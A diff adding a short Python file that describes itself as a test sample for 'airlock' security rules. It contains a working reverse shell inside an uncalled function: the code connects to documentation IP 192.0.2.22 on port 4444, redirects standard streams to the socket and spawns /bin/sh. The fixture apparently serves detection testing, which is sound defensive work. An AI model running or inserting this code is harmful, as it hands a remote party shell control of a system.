@@ -1,0 +1,14 @@
+# airlock rule test sample. Never executed by tests; the payload sits in a function
+# that is never called, and uses only documentation IPs / .invalid hosts.
+import os
+import pty
+import socket
+
+
+def _never():
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    s.connect(("192.0.2.22", 4444))
+    os.dup2(s.fileno(), 0)
+    os.dup2(s.fileno(), 1)
+    os.dup2(s.fileno(), 2)
+    pty.spawn("/bin/sh")
